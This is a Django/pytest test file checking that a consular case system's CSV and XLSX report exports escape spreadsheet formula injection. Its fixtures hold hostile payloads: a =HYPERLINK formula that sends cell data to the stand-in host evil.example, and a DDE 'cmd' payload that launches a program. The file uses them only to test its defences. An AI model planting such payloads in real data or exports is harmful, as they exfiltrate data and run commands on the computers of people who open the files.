"""Exports never carry a live formula (issue 15, item 10).

The review named a facility ``=HYPERLINK(...)`` and it became a working link in the CSV and the XLSX.
Every export path writes its cells through ``cases.reports.cells``: text that a spreadsheet would run is
escaped in CSV (a leading ``'``) and written as a quoted string cell in XLSX; numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from cases import services
from cases.models.case import NotifiedBy
from cases.reports import exports
from cases.reports.cells import csv_cell
from cases.reports.common import Report, ReportParams
from consulates.models import DetentionFacility
from tests import factories as f
from tests.auth import login_verified
from tests.factories.crossoffice import make_referral
from tests.worlds import rolled_back

pytestmark = pytest.mark.django_db

EVIL_FACILITY = '=HYPERLINK("https://evil.example/?d="&A1,"Ver detalles")'
EVIL_PARTNER = "+Asistencia Legal @ -cmd|' /C calc'!A0"
EVIL_OFFICER = ("@SUM(1+1)", "-2+3")  # first and last name: "@SUM(1+1) -2+3"
# report -> (the column holding the name, the name, a column holding a count)
NAMED = {
    "custody_by_facility": ("facility", EVIL_FACILITY, "in_custody"),
    "art36_by_facility": ("facility", EVIL_FACILITY, "cases"),
    "art36_sequence_by_facility": ("facility", EVIL_FACILITY, "arrests"),
    "referrals_by_partner": ("partner", EVIL_PARTNER, "referrals"),
    "workload": ("officer", " ".join(EVIL_OFFICER), "open_cases"),
}


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with rolled_back(django_db_blocker):
        officer = f.officer("dallas", first_name=EVIL_OFFICER[0], last_name=EVIL_OFFICER[1])
        facility = DetentionFacility.objects.filter(county__consulate__slug="dallas", active=True).first()
        DetentionFacility.objects.filter(pk=facility.pk).update(name=EVIL_FACILITY)
        facility.refresh_from_db()
        partner = f.PartnerFactory(name=EVIL_PARTNER)
        now = timezone.now()
        case = f.make_case(
            officer,
            facility=facility,
            detained_since=timezone.localdate() - dt.timedelta(days=3),
            arrested_at=now - dt.timedelta(days=3),
            consulate_notified_at=now - dt.timedelta(days=2),
            notified_by=NotifiedBy.FACILITY,
        )
        services.case_assign(actor=officer, case=case, assignee=officer)
        make_referral(officer, case, partner)
        yield {"manager": f.manager()}


@pytest.fixture
def manager_client(client, world):
    login_verified(client, world["manager"])
    return client


def _query():
    today = timezone.localdate()
    return {"start": (today - dt.timedelta(days=30)).isoformat(), "end": today.isoformat()}


def _export(client, name: str, fmt: str) -> bytes:
    response = client.get(reverse("reports:export", args=[name, fmt]), _query())
    assert response.status_code == 200
    return response.content


def _table(rows: list[list], header: str) -> list[dict]:
    start = next(i for i, row in enumerate(rows) if row and row[0] == header)
    columns = rows[start]
    return [dict(zip(columns, row, strict=False)) for row in rows[start + 1 :] if any(row)]


@pytest.mark.parametrize("name", sorted(NAMED))
def test_csv_escapes_a_name_that_a_spreadsheet_would_run(manager_client, name):
    column, evil, count = NAMED[name]
    report = exports_report(name)
    labels = dict(report.columns)
    content = _export(manager_client, name, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    [row] = [r for r in _table(rows, labels[column]) if evil in r[labels[column]]]
    assert row[labels[column]] == "'" + evil
    assert row[labels[count]] == "1"  # a count is written as the number it is
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


@pytest.mark.parametrize("name", sorted(NAMED))
def test_xlsx_writes_a_name_as_text_never_as_a_formula(manager_client, name):
    column, evil, count = NAMED[name]
    labels = dict(exports_report(name).columns)
    workbook = openpyxl.load_workbook(io.BytesIO(_export(manager_client, name, "xlsx")))
    (sheet,) = workbook.worksheets  # one report, one sheet (named by its title)
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert cells[evil].data_type == "s"  # a string with exactly the name, not a formula
    assert cells[evil].quotePrefix
    assert not [cell for cell in cells.values() if cell.data_type == "f"]
    header = next(row for row in sheet.iter_rows() if row[0].value == labels[column])
    count_column = [cell.value for cell in header].index(labels[count])
    evil_row = next(row for row in sheet.iter_rows() if any(cell.value == evil for cell in row))
    assert evil_row[count_column].value == 1
    assert evil_row[count_column].data_type == "n"


def test_the_workbook_of_every_report_holds_no_formula(manager_client):
    workbook = openpyxl.load_workbook(io.BytesIO(_export(manager_client, "all", "xlsx")))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert EVIL_FACILITY in {cell.value for cell in cells}


def exports_report(name: str) -> Report:
    from cases.reports.registry import REPORTS

    return REPORTS[name](f.manager(), ReportParams.default())


# --- the helper, cell by cell --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "-"])
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, 0, 7, -2.5, Decimal("-1.5"), dt.date(2025, 1, 6)])
def test_numbers_and_dates_are_never_escaped(value):
    assert csv_cell(value) == value


def test_plain_text_and_empty_cells_are_unchanged():
    assert csv_cell("Dallas") == "Dallas"
    assert csv_cell(" =x") == " =x"  # only the first character makes a formula
    assert csv_cell(None) == ""


def test_negative_numbers_stay_numbers_in_both_formats():
    report = Report("delta", "=Título", [("name", "-Nombre"), ("n", "N")], [{"name": "=1+1", "n": -3}])
    params = ReportParams(start=dt.date(2025, 1, 6), end=dt.date(2025, 2, 23))
    rows = list(csv.reader(io.StringIO(exports.to_csv(report, params).decode("utf-8-sig"))))
    assert rows[0] == ["'=Título"]
    assert rows[-2:] == [["'-Nombre", "N"], ["'=1+1", "-3"]]
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx([report], params))).worksheets[0]
    last = list(sheet.iter_rows())[-1]
    assert [(cell.value, cell.data_type) for cell in last] == [("=1+1", "s"), (-3, "n")]


def test_control_characters_in_a_name_do_not_break_the_workbook():
    report = Report("ctl", "t", [("name", "Nombre")], [{"name": "Casa\x00\x07 Refugio"}])
    params = ReportParams(start=dt.date(2025, 1, 6), end=dt.date(2025, 2, 23))
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx([report], params))).worksheets[0]
    assert list(sheet.iter_rows())[-1][0].value == "Casa Refugio"
